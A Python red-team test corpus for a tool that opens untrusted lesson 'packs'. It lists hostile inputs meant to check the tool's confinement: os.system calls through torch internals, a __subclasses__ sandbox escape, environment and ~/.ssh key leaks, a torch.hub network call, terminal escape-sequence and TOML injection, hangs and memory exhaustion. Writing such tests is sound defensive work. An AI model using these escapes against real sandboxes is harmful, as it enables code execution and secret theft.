"""Red-team corpus for packs, the tuning half.

These attacks go after the README's promise that a pack from an untrusted source can be
opened: every place a pack keeps code (the forward file's setup, batch and forward; a pack's
setup, forward lines, solutions, hints and training evaluation) runs confined under the learner's
policy, and `pack new` turns any file into a pack that loads or a one-line refusal, prints
nothing raw to the terminal and leaves `--out` as it was when it fails.

This half was run against the tool while it was written (to make sure each attack is well
formed); /tmp/w1/tests/redteam_pack_holdout.py is the other half, measured only. Run both with
`python3 /tmp/rt/harness.py tune|holdout`.

Each attack is a dict: "kind" ("forward": the text of a forward file given to `pack new`;
"pack": a pack copied from `base` and changed by "edit" (a file's full new text) or "append"),
"command" ("pack new", "pack check", "check" with "step" and "code", or "train"), and "goal".
An attack that gets through leaves /tmp/redteam_pwned_<name>, prints PWNED-<name> (the marker is
assembled at run time, so an echo of the source never shows it), reaches 127.0.0.1:47931, or
shows a secret; the harness says what else counts (tracebacks, raw escapes, hangs, memory,
a changed --out).
"""
from __future__ import annotations

import textwrap

# -- helpers: the texts the attacks start from ------------------------------------------------


def _indent(code: str) -> str:
    return textwrap.indent(textwrap.dedent(code).strip("\n"), "    ") + "\n" if code else ""


def _fwd(setup_pre: str = "", batch_pre: str = "", top: str = "",
         doc: str = '"""A small classifier, one linear layer."""') -> str:
    """A forward file `pack new` accepts, with code put before setup's and batch's bodies."""
    return (
        f"{doc}\n"
        "import torch\n"
        "import torch.nn.functional as F\n"
        f"{top}\n"
        "n_in = 6\n"
        "n_classes = 3\n\n\n"
        "def setup(seed):\n"
        f"{_indent(setup_pre)}"
        "    g = torch.Generator().manual_seed(seed)\n"
        '    return {"W": torch.randn((n_in, n_classes), generator=g) / 3}\n\n\n'
        "def batch(n, seed):\n"
        f"{_indent(batch_pre)}"
        "    g = torch.Generator().manual_seed(seed)\n"
        '    return {"X": torch.randn((n, n_in), generator=g),\n'
        '            "Y": torch.randint(0, n_classes, (n,), generator=g)}\n\n\n'
        "def forward(X, Y, W):\n"
        "    logits = X @ W\n"
        "    loss = F.cross_entropy(logits, Y)\n"
        "    return loss\n"
    )


_MLP_SETUP = '''
import torch


def make_data(text, sizes):
    g = torch.Generator().manual_seed(1)
    teacher = torch.randn((6, 5), generator=g)
    made = {}
    for split in ("train", "val", "test"):
        X = torch.randn((512, 6), generator=g)
        made[split] = (X, (X @ teacher).argmax(1))
    return made


def init_params(g, sizes):
    return {
        "W1": torch.randn((6, 16), generator=g) / 6 ** 0.5,
        "b1": torch.randn(16, generator=g) * 0.1,
        "W2": torch.randn((16, 5), generator=g) / 4,
        "b2": torch.randn(5, generator=g) * 0.1,
    }


def sample_batch(X, Y, batch_size, g):
    ix = torch.randint(0, X.shape[0], (batch_size,), generator=g)
    return X[ix], Y[ix]
'''

_MLP_FORWARD = '''hpre = Xb @ W1 + b1
h = torch.tanh(hpre)
logits = h @ W2 + b2
loss = F.cross_entropy(logits, Yb)
'''


def _pack_toml(setup_extra: str = "", pack_extra: str = "",
               exercises: str = '["01_lines.toml", "02_training.toml"]') -> str:
    """pack.toml of the mlp pack (tests/packs/forward/mlp.py), with a short setup of the same
    network and `setup_extra` run at its end."""
    return f'''[pack]
schema = 1
id = "mlp"
title = "A two-layer classifier"
{pack_extra}
exercises = {exercises}

[lesson]
n_in = 6
n_hidden = 16
n_classes = 5
batch_size = 32
heldout_batch_size = 17

[setup]
code = \'\'\'{_MLP_SETUP}
{textwrap.dedent(setup_extra).strip()}
\'\'\'

[forward]
loss = "loss"
code = \'\'\'
{_MLP_FORWARD}\'\'\'
'''


_EVAL = '''
CHUNK = 1024


def evaluate(params, state, X, Y):
    total, count = 0.0, 0
    for i in range(0, X.shape[0], CHUNK):
        Xb, Yb = X[i:i + CHUNK], Y[i:i + CHUNK]
        total += float(forward_loss(params, Xb, Yb)) * Xb.shape[0]
        count += Xb.shape[0]
    return total / count
'''


def _training_toml(eval_code: str = _EVAL, extra: str = "") -> str:
    """02_training.toml of the mlp pack with its evaluation code replaced."""
    return f'''[exercise]
number = 2
title = "Train it on your gradients"
kind = "training"
intro = "Your backward pass, every step of it, drives gradient descent."

[training]
steps = 1000
lr = 0.1
lr_decay_step = 0.75
lr_after_decay = 0.01
gradcheck_steps = 10
samples = 0
cpu_threads = 1
batch_size = 32
backward = ["mlp/logits", "mlp/h", "mlp/hpre", "mlp/W1"]
loss = "loss = F.cross_entropy(logits, Yb)"
{extra}

[training.eval]
code = \'\'\'
{textwrap.dedent(eval_code).strip()}
\'\'\'

[[steps]]
id = "mlp/train"
title = "Training loop"
lines = ["loss"]
checks = ["W1", "b1", "W2", "b2"]
explanation = "Each step runs your backward pass and moves every parameter against its gradient."
hints = [
    "Nothing new to derive: your earlier steps are the backward pass.",
    "Every gradient must have its parameter's shape.",
    "If the gradient check fails, go back to the step that computes that parameter's gradient.",
]
'''


_DLOGITS = "dlogits = (F.softmax(logits, 1) - F.one_hot(Yb, n_classes)) / n"

# -- the attacks ------------------------------------------------------------------------------

ATTACKS: dict[str, dict] = {
    "fwd_setup_os_system": {
        "kind": "forward",
        "command": "pack new",
        "goal": "run os.system through torch's own `os` attribute from the forward file's setup",
        "file": _fwd(setup_pre='''
            torch.os.system("touch /tmp/redteam_pwned_fwd_setup_os_system; "
                            "echo PW''NED-fwd_setup_os_system")
        '''),
    },
    "fwd_subclasses_getattr": {
        "kind": "forward",
        "command": "pack new",
        "goal": "reach os.system from batch() through getattr with dunder names built by %-format: "
                "().__class__.__base__.__subclasses__() -> os._wrap_close.__init__.__globals__",
        "file": _fwd(batch_pre='''
            u = "%c%c" % (95, 95)
            base = getattr(getattr((), u + "class" + u), u + "base" + u)
            for sub in getattr(base, u + "subclasses" + u)():
                if getattr(sub, u + "name" + u) == "%cwrap%cclose" % (95, 95):
                    env = getattr(getattr(sub, u + "init" + u), u + "globals" + u)
                    env["system"]("touch /tmp/redteam_pwned_fwd_subclasses_getattr; "
                                  "echo PW''NED-fwd_subclasses_getattr")
        '''),
    },
    "fwd_infinite_loop": {
        "kind": "forward",
        "command": "pack new",
        "goal": "hang pack new forever with a Python loop in setup",
        "file": _fwd(setup_pre='''
            k = 0
            while True:
                k = k + 1
        '''),
    },
    "fwd_escape_in_error": {
        "kind": "forward",
        "command": "pack new",
        "goal": "escape sequences (OSC title, clear screen, C1 CSI, OSC 8 link, BEL, RLO) in "
                "setup's exception message reach the terminal through pack new's refusal",
        "file": _fwd(setup_pre=r'''
            raise ValueError("bad seed \x1b]0;owned title\x07\x1b[2J\x1b[31mred \x9b1m "
                             "\u202eexe.txt \x1b]8;;http://127.0.0.1:47931/\x1b\\link"
                             "\x1b]8;;\x1b\\ \x08\x08\x08\x7f")
        '''),
    },
    "fwd_toml_quotes": {
        "kind": "forward",
        "command": "pack new",
        "goal": "TOML injection: a docstring with triple quotes and TOML escapes (\\u001b) and a "
                "comment with ''' break out of the strings pack new writes (a pack that does "
                "not load, or an ESC decoded into the title)",
        "file": _fwd(
            doc="r'''Quotes \"\"\" \\\"\"\" \\u001b[31mred\\u0007 \\\\ and \"title\" = 1\n"
                "[pack]\nid = \"evil\"\n'''",
            top="# a stray ''' closes a literal string\n# and \"\"\" a basic one\n",
        ),
    },
    "fwd_surrogate_force": {
        "kind": "forward",
        "command": "pack new",
        "out": "pack",
        "force": True,
        "goal": "a lone surrogate in the docstring (the title) makes pack new crash while "
                "writing over an existing pack with --force and leave it half-written",
        "file": _fwd(doc='"""A title \\udc80 with a lone surrogate \\ud800 in it"""'),
    },
    "fwd_nonascii_names": {
        "kind": "forward",
        "command": "pack new",
        "goal": "names that are not ASCII (parameter, lines, dict key) make a pack that does "
                "not load",
        "file": '''"""Non-ASCII names."""
import torch
import torch.nn.functional as F

n_in = 6
n_classes = 3
größe = 8


def setup(seed):
    g = torch.Generator().manual_seed(seed)
    return {"Wé": torch.randn((n_in, größe), generator=g) / 3,
            "Vλ": torch.randn((größe, n_classes), generator=g) / 3}


def batch(n, seed):
    g = torch.Generator().manual_seed(seed)
    return {"X": torch.randn((n, n_in), generator=g),
            "Y": torch.randint(0, n_classes, (n,), generator=g)}


def forward(X, Y, Wé, Vλ):
    hé = torch.tanh(X @ Wé)
    λogits = hé @ Vλ
    loss = F.cross_entropy(λogits, Y)
    return loss
''',
    },
    "fwd_deep_expr": {
        "kind": "forward",
        "command": "pack new",
        "goal": "a 100 000-term expression blows the recursion of the parser, the policy's "
                "AST walk or the compiler: a traceback or a crash instead of a refusal",
        "file": _fwd(setup_pre="k = 0" + " + 1" * 100_000),
    },
    "fwd_memory_6g": {
        "kind": "forward",
        "command": "pack new",
        "goal": "exhaust memory: setup fills 6 GiB of tensors and only then reports",
        "file": _fwd(setup_pre='''
            keep = []
            for i in range(6):
                keep.append(torch.ones(2 ** 28))
            print("PW" + "NED-fwd_memory_6g")
            raise RuntimeError("PW" + "NED-fwd_memory_6g: 6 GiB allocated unconfined")
        '''),
    },
    "fwd_import_serialization": {
        "kind": "forward",
        "command": "pack new",
        "goal": "import trick: `from torch import serialization` and its module-level os",
        "file": _fwd(top="from torch import serialization\n", setup_pre='''
            serialization.os.system("touch /tmp/redteam_pwned_fwd_import_serialization; "
                                    "echo PW''NED-fwd_import_serialization")
        '''),
    },
    "pack_setup_format_env": {
        "kind": "pack",
        "base": "mlp.py",
        "command": "check",
        "step": "mlp/logits",
        "code": _DLOGITS,
        "goal": "str.format's field lookup walks attributes past the guard "
                "('{0.os.environ}'.format(torch)) and leaks the environment from setup code",
        "edit": {"pack.toml": _pack_toml(setup_extra='''
            leaked = "{0.os.environ}".format(torch)
            print("PW" + "NED-pack_setup_format_env", leaked)
            raise RuntimeError("PW" + "NED-pack_setup_format_env " + leaked)
        ''')},
    },
    "pack_eval_os_system": {
        "kind": "pack",
        "base": "mlp.py",
        "command": "train",
        "goal": "run os.system from [training.eval] code, at load and inside evaluate",
        "edit": {"02_training.toml": _training_toml(_EVAL.replace(
            "def evaluate(params, state, X, Y):\n",
            "torch.os.system('touch /tmp/redteam_pwned_pack_eval_os_system')\n\n\n"
            "def evaluate(params, state, X, Y):\n"
            "    torch.os.system('echo PW\"\"NED-pack_eval_os_system; "
            "touch /tmp/redteam_pwned_pack_eval_os_system_in_evaluate')\n"))},
    },
    "pack_data_ssh": {
        "kind": "pack",
        "base": "mlp.py",
        "command": "check",
        "step": "mlp/logits",
        "code": _DLOGITS,
        "goal": "read ~/.ssh/id_rsa: `data` names a file outside the pack by ../ and make_data "
                "raises with its text",
        "edit": {"pack.toml": _pack_toml(pack_extra='data = "../fakehome/.ssh/id_rsa"',
                                         setup_extra='''
            plain = make_data


            def make_data(text, sizes):
                if text and "PRIVATE KEY" in text:
                    raise RuntimeError("PW" + "NED-pack_data_ssh " + text[:300])
                return plain(text, sizes)
        ''')},
    },
    "pack_step_id_escape": {
        "kind": "pack",
        "base": "mlp.py",
        "command": "pack check",
        "goal": "escape sequences (CSI clear, OSC title, C1, RLO, OSC 52) in a step's id, title, "
                "explanation and hint reach the terminal through pack check",
        "append": {"01_lines.toml": r'''
[[steps]]
id = "mlp/\u001b[2J\u001b]0;owned\u0007esc"
title = "d\u001b[5mblink\u202eflip\u009b31m"
lines = ["loss"]
checks = ["logits"]
template = "dlogits = ..."
solution = "dlogits = torch.zeros_like(logits)"
explanation = "\u001b]52;c;cHduZWQ=\u0007 clipboard"
hints = ["\u001b[31mone", "two\r\u001b[Ktwo", "three"]
'''},
    },
    "pack_invalid_toml": {
        "kind": "pack",
        "base": "mlp.py",
        "command": "pack check",
        "goal": "pack.toml that is not valid TOML (an unterminated string and table) gives a "
                "traceback instead of a one-line refusal",
        "append": {"pack.toml": '\nbroken = "unterminated\n[pack\n'},
    },
    "pack_hub_network": {
        "kind": "pack",
        "base": "mlp.py",
        "command": "check",
        "step": "mlp/logits",
        "code": _DLOGITS,
        "goal": "network access from setup code: torch.hub.download_url_to_file to "
                "127.0.0.1:47931, saving to /tmp",
        "edit": {"pack.toml": _pack_toml(setup_extra='''
            torch.hub.download_url_to_file("http://127.0.0.1:47931/pack_hub_network",
                                           "/tmp/redteam_pwned_pack_hub_network",
                                           progress=False)
        ''')},
    },
    "pack_solution_hint_write": {
        "kind": "pack",
        "base": "mlp.py",
        "command": "pack check",
        "goal": "write a file outside the pack from a step's reference solution (torch.save), "
                "and run os.system from a code block in its hints",
        "append": {"01_lines.toml": '''
[[steps]]
id = "mlp/extra"
title = "dlogits again"
lines = ["loss"]
checks = ["logits"]
template = "dlogits = ..."
solution = \'\'\'
torch.save(torch.zeros(1), "/tmp/redteam_pwned_pack_solution_hint_write")
dlogits = (F.softmax(logits, 1) - F.one_hot(Yb, n_classes)) / n
\'\'\'
explanation = "Run this: `torch.os.system('touch /tmp/redteam_pwned_pack_solution_hint_write_expl')`"
hints = [
    "```python\\ntorch.os.system('touch /tmp/redteam_pwned_pack_solution_hint_write_hint')\\n```",
    "`dlogits` is [32, 5].",
    "```\\ndlogits = torch.os.system('touch /tmp/redteam_pwned_pack_solution_hint_write_h3')\\n```",
]
'''},
    },
}
